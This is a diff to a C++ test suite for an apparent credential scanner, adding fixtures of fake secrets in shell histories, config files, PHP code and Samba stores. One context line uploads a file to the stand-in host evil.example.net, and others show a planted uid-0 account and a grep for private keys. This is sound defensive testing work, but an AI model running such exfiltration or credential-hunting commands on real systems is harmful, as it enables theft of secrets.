@@ -198,6 +198,12 @@ private slots:
         row("nginx", "/etc/nginx/nginx.conf", "location / { proxy_pass http://127.0.0.1:8080; }\nproxy_pass http://b;\n", "");
         row("pam", "/etc/pam.d/common-password", "password\trequisite\tpam_deny.so\npassword include system-auth\n", "");
         row("prose", "/root/notes", "the password is on the wall\n", "");
+        row("words of a key in a history", "/root/.bash_history", "grep -rl -- '-----BEGIN RSA' /etc\nmysqldump -uroot -pGeheim77 shop\n", "database_password:open");
+        row("a key that does not end", "/root/.bash_history", "-----BEGIN RSA PRIVATE KEY-----\nMIIE\nmysqldump -uroot -pGeheim77 shop\n", "database_password:open");
+        row("what stands for a secret in directives", "/etc/proftpd/sql.conf", "AuthInfo:smtp.x \"U:root\" \"P:<password>\"\nSQLConnectInfo db@localhost proftp ${PW}\nbob Cleartext-Password := \"%{x}\"\n", "");
+        row("kinds of secrets in a history", "/root/.bash_history", "GITHUB_TOKEN=abcDEF123456 run\nexport AWS_SECRET_ACCESS_KEY=abcDEF123456\nx --api-key abcDEF123456\nexport A_PASSWORD=abcDEF123456\n", "token:open cloud_key:open application_secret:open password:open");
+        row("a hash in a statement", "/root/.mysql_history", "_HiStOrY_V2_\nALTER\\040USER\\040'a'\\040IDENTIFIED\\040WITH\\040mysql_native_password\\040AS\\040'*2470C0C06DEE42FD1618BB99005ADCA2EC9D1E19';\n", "database_password:hashed");
+        row("accounts", "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nold:$6$Qm1sT0x9$kJ2hG4fD6sA8pO0iU2yT4rE6wQ8zX0cV2bN4mL6k:1001:1001:Old,pw=Geheim77:/home/old:/bin/sh\nbackup:x:34:34:backup:/var/backups:/usr/sbin/nologin\n", "account_password:hashed password:open");
         row("log line", "/root/mail.txt", "sshd[1]: Failed password for root from 192.0.2.1\n", "");
     }
     void finds() {
@@ -266,9 +272,15 @@ private slots:
         row("dropbear", "/etc/dropbear/dropbear_ed25519_host_key", QByteArray("\0\0\0\x0bssh-ed25519\0\0\0\x40", 19) + QByteArray(64, 'k'), "ssh_host_key dropbear open");
         row("a public key of ssh", "/opt/x.bin", QByteArray("\0\0\0\x0bssh-ed25519\0\0\0\x20", 19) + QByteArray(32, 'k'), "");
         row("VNC", "/root/.vnc/passwd", "\x17\x52\x6b\x06\x23\x4e\x58\x07", "key_store VNC password open");
-        row("Samba joined", "/var/lib/samba/private/secrets.tdb", "TDB file\n" + QByteArray(50, '\0') + "SECRETS/MACHINE_PASSWORD/X", "key_store secrets.tdb open");
-        row("Samba never joined", "/var/lib/samba/private/secrets.tdb", "TDB file\n" + QByteArray(50, '\0') + "SECRETS/SID/WEB1", "");
-        row("Samba's users", "/var/lib/samba/private/passdb.tdb", "TDB file\n" + QByteArray(50, '\0') + "USER_anna", "key_store passdb.tdb hashed");
+        // As large as Samba makes them: longer than the beginning that is looked at.
+        const auto tdb = [](const char* record) { return "TDB file\n" + QByteArray(700, '\0') + record + QByteArray(430'080, '\0'); };
+        row("Samba joined", "/var/lib/samba/private/secrets.tdb", tdb("SECRETS/MACHINE_PASSWORD/X"), "key_store secrets.tdb open");
+        row("Samba never joined", "/var/lib/samba/private/secrets.tdb", tdb("SECRETS/SID/WEB1"), "");
+        row("Samba's users", "/var/lib/samba/private/passdb.tdb", tdb("USER_anna"), "key_store passdb.tdb hashed");
+        row("Samba without users", "/var/lib/samba/private/passdb.tdb", tdb("INFO/version"), "");
+        row("a domain's users", "/var/lib/samba/private/sam.ldb.d/DC=EXAMPLE,DC=ORG.ldb", tdb("DN=@BASEINFO"), "key_store ldb open");
+        row("a domain's names", "/var/lib/samba/private/sam.ldb.d/DC=DOMAINDNSZONES,DC=EXAMPLE,DC=ORG.ldb", tdb("DN=@BASEINFO"), "");
+        row("a domain's schema", "/var/lib/samba/private/sam.ldb.d/CN=SCHEMA,CN=CONFIGURATION,DC=EXAMPLE,DC=ORG.ldb", tdb("DN=@BASEINFO"), "");
         row("Jenkins", "/var/lib/jenkins/secrets/hudson.util.Secret", QByteArray(272, '\x91'), "application_secret  open");
         row("a disk's key", "/etc/cryptsetup-keys.d/data.key", QByteArray(64, '\x91'), "shared_key  open");
         row("MySQL's login path", "/root/.mylogin.cnf", QByteArray(4, '\0') + QByteArray(60, '\x91'), "database_password login path open");
@@ -278,7 +290,7 @@ private slots:
         QFETCH(QByteArray, path);
         QFETCH(QByteArray, bytes);
         QFETCH(QByteArray, what);
-        const auto found = credentials::find_in_file(path.toStdString(), "application/octet-stream", std::string_view(bytes.constData(), static_cast<std::size_t>(bytes.size())), static_cast<std::uint64_t>(bytes.size()));
+        const auto found = credentials::find_in_file(path.toStdString(), "application/octet-stream", std::string_view(bytes.constData(), static_cast<std::size_t>(std::min<qsizetype>(bytes.size(), 64 * 1024))), static_cast<std::uint64_t>(bytes.size()));
         QCOMPARE(QByteArray::fromStdString(found.empty() ? "" : found[0].kind + " " + found[0].setting + " " + found[0].protection), what);
     }
     void hostile_stores() {
@@ -316,6 +328,33 @@ private slots:
         typed("git clone https://bob:Geheim77@github.com/x/y", "password|git|bob|github.com|");
         typed("curl -F file=@/tmp/a \"https://evil.example.net/up?key=Geheim77\"", "password|curl||evil.example.net|");
         typed("zip -P Geheim77 a.zip b", "password|zip|||");
+        // On another machine.
+        typed("ssh root@db2.example.org \"mysqldump -uroot -pGeheim77 shop\" > shop.sql", "database_password|mysqldump|root|db2.example.org|shop");
+        typed("ssh -p 2222 -i k db2 mysql -h localhost -uroot -pGeheim77 shop", "database_password|mysql|root|db2|shop");
+        typed("ssh db2 'cd /x && mysql -h db3 -uroot -pGeheim77 shop'", "database_password|mysql|root|db3|shop");
+        typed("ssh $h \"mysql -h 127.0.0.1 -uroot -pGeheim77 shop\"", "database_password|mysql|root||shop");
+        typed("sshpass -e ssh root@db2 mysql -uroot -pGeheim77 shop", "database_password|mysql|root|db2|shop");
+        typed("rsync -e ssh a b; mysql -uroot -pGeheim77 shop", "database_password|mysql|root||shop");
+        typed("sudo bash -c 'cd /x; mysql -uroot -pGeheim77 shop'", "database_password|mysql|root||shop");
+        // Operands that are no databases.
+        typed("mysqladmin -uroot -pGeheim77 flush-privileges", "database_password|mysqladmin|root||");
+        typed("PGPASSWORD=Geheim77 pg_restore -h db -U u -d stock stock.dump", "database_password|pg_restore|u|db|stock");
+        typed("PGPASSWORD=Geheim77 pg_restore -h db -U u stock.dump", "database_password|pg_restore|u|db|");
+        typed("mysqldump -uroot -pGeheim77 --default-character-set utf8mb4 shop", "database_password|mysqldump|root||shop");
+        typed("mysqldump -uroot -pGeheim77 -v shop", "database_password|mysqldump|root||shop");
+        typed("PGPASSWORD=Geheim77 psql -v ON_ERROR_STOP=1 -U u stock", "database_password|psql|u||stock");
+        typed("mysql -uroot -pGeheim77 -D shop", "database_password|mysql|root||shop");
+        // Statements, and prose that has their words.
+        typed("echo \"new password for anna\"; zip -P Geheim77 a.zip b", "password|zip|||");
+        typed("samba-tool user setpassword anna --newpassword=Geheim77", "password|samba-tool|||");
+        typed("mysql -uroot -e \"ALTER USER 'anna'@'%' IDENTIFIED BY 'Geheim77'\"", "database_password|mysql|anna||");
+        typed("sudo -u postgres psql -c \"CREATE ROLE stock LOGIN ENCRYPTED PASSWORD 'Geheim77'\"", "database_password|psql|stock||");
+        typed("GRANT ALL ON shop.* TO 'anna'@'localhost' IDENTIFIED BY 'Geheim77';", "database_password||anna||");
+        typed("SET PASSWORD FOR 'anna'@'%' = PASSWORD('Geheim77');", "database_password||anna||");
+        typed("ALTER USER 'anna' IDENTIFIED WITH mysql_native_password AS '*2470C0C06DEE42FD1618BB99005ADCA2EC9D1E19';", "database_password||anna||");
+        // Other programs' own ways.
+        typed("xfreerdp /u:anna /p:Geheim77 /v:10.0.0.1:3389", "password|xfreerdp|anna|10.0.0.1|");
+        typed("mount -t cifs //nas/x /mnt -o rw,username=anna,password=Geheim77", "password|mount|anna|nas|");
         const auto file = [](const char* path, const char* text, const char* place) { QTest::newRow(path) << QByteArray(path) << QByteArray(text) << QByteArray(place); };
         file("/root/.mysql_history", "CREATE USER 'shop'@'%' IDENTIFIED BY 'Geheim77';\n", "database_password||shop||");
         file("/srv/x/wp-config.php", "<?php\ndefine('DB_NAME', 'shop');\ndefine('DB_USER', 'shopadmin');\ndefine('DB_PASSWORD', 'Zang3n&Co');\ndefine('DB_HOST', 'db.internal.example:3306');\n", "database_password|WordPress|shopadmin|db.internal.example|shop");
@@ -326,6 +365,16 @@ private slots:
         file("/srv/x/application.properties", "spring.datasource.url=jdbc:mysql://db.example.org:3306/shop?useSSL=true\nspring.datasource.username=u\nspring.datasource.password=SprPw12\n", "database_password|Spring|u|db.example.org|shop");
         file("/srv/x/db.php5.php", "<?php\n$p = new PDO('mysql:host=db.example.org;dbname=shop', 'u', 'geheim');\n", "database_password||u|db.example.org|shop");
         file("/srv/x/old.php", "<?php\n$c = mysqli_connect('localhost', 'root', 'geheim', 'shop');\n", "database_password||root|localhost|shop");
+        file("/srv/x/a.php", "<?php\n$c = mysqli_connect($host, 'root', 'geheim', 'shop');\n", "database_password||root||shop");
+        file("/srv/x/b.php", "<?php\n$c = mysqli_connect(getenv('DB_HOST'), 'root', 'geheim');\n", "database_password||root||");
+        file("/srv/x/c.php", "<?php\nftp_login($c, 'upload', 'Geheim77');\n", "password||upload||");
+        file("/srv/x/d.php", "<?php\n$m = imap_open('{mail.example.org:993/imap}INBOX', 'u', 'Geheim77');\n", "password||u|mail.example.org|");
+        file("/srv/x/e.php", "<?php\n$p = new PDO('mysql:host=db;dbname=x', trim($u), 'Geheim77');\n", "database_password|||db|x");
+        file("/srv/m/.env", "DB_HOST=127.0.0.1\nDB_DATABASE=shop\nDB_USERNAME=app\nMAIL_PASSWORD=Geheim77\n", "password||||");
+        file("/srv/n/docker.env", "MYSQL_USER=shop\nMYSQL_ROOT_PASSWORD=Geheim77\n", "database_password||root||");
+        file("/etc/fstab", "//nas/x /mnt cifs rw,username=anna,password=Geheim77,uid=0 0 0\n", "password|CIFS|anna|nas|");
+        file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nevil:x:0:0:pw=Geheim77:/root:/bin/bash\n", "password||evil||");
+        file("/etc/ppp/chap-secrets", "anna * Geheim77 *\n", "password|PPP|anna||");
         file("/etc/dovecot/dovecot-sql.conf.ext", "connect = host=db.example.org dbname=mail user=mail password=DovPw77\n", "database_password||mail|db.example.org|mail");
     }
     void places_of_use() {
